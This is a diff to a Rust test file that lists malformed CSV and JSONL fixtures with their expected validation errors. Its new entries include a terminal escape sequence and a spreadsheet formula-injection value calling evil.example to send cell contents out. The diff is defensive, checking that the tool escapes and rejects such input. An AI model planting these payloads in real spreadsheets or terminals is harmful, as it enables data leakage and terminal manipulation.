@@ -6,7 +6,7 @@ use std::io::Write;
 use crate::support::{fixture, simbatch};
 
 /// (file under tests/fixtures/invalid, line or None for whole-file problems, message fragment)
-const CORPUS: &[(&str, Option<u64>, &str)] = &[
+pub const CORPUS: &[(&str, Option<u64>, &str)] = &[
     ("empty.csv", None, "the file is empty"),
     ("header_only.csv", None, "the file has no rows"),
     ("no_header.csv", Some(1), "the first line looks like data, not a header"),
@@ -46,7 +46,21 @@ const CORPUS: &[(&str, Option<u64>, &str)] = &[
     ("not_utf8.csv", Some(2), "value is not valid UTF-8"),
     ("utf16.csv", None, "the file is UTF-16 encoded; save it as UTF-8"),
     ("binary.csv", Some(1), "the header has no `action` column"),
+    ("zip_archive.csv", Some(1), "the header has no `action` column (found: PK\\u{3}\\u{4}"),
+    ("jsonl_deeply_nested.jsonl", Some(1), "not valid JSON: recursion limit exceeded"),
+    ("jsonl_huge_number.jsonl", Some(1), "not valid JSON: number out of range"),
+    ("many_columns.csv", Some(2), "row has 3 fields but the header has 50003 columns"),
+    ("only_comments.csv", None, "the file has no header line (only blank or comment lines)"),
+    // Values quoted in messages cannot drive the terminal: control characters are escaped.
+    ("nul_bytes.csv", Some(2), "unknown action `sus\\u{0}pend`"),
+    ("terminal_escape.csv", Some(2), "unknown action `\\u{1b}]0;pwned\\u{7}\\u{1b}[2Jsuspend`"),
+    ("csv_injection_action.csv", Some(2), "unknown action `=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")`"),
 ];
+
+/// The corpus's files, for other suites (`run` must refuse each of them too).
+pub fn corpus() -> impl Iterator<Item = (&'static str, Option<u64>, &'static str)> {
+    CORPUS.iter().copied()
+}
 
 #[test]
 fn corpus_covers_every_file_in_the_folder() {
@@ -56,7 +70,7 @@ fn corpus_covers_every_file_in_the_folder() {
         CORPUS.len(),
         "every malformed file needs an expectation"
     );
-    assert!(CORPUS.len() >= 25);
+    assert!(CORPUS.len() >= 40);
 }
 
 #[test]
